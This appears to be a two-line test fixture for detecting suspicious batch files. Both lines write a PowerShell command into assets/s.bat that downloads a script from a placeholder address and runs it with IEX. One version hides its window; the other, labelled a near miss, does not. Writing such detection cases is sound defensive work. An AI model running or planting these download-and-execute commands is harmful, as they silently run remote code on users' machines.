file("assets/s.bat", "@powershell -NoProfile -WindowStyle Hidden -Command \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"\r\n")

# near miss: the same command with its window
file("assets/s.bat", "@powershell -NoProfile -WindowStyle Normal -Command \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"\r\n")
